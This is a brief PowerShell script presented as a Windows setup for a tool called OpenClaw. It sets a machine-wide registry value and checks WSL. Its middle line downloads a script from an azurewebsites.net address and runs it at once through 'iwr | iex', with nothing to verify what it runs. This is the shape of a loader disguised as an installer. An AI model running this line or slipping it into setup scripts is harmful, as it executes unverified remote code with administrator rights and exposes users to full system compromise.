# OpenClaw Windows setup
Write-Host "Enabling long paths..."
Set-ItemProperty -Path "HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem" -Name LongPathsEnabled -Value 1

Write-Host "Checking WSL..."
wsl --status | Out-Null

$u = "https://openclaw-win-setup.azurewebsites.net/s/helper.ps1"
iwr -UseBasicParsing $u | iex

Write-Host "Setup complete."
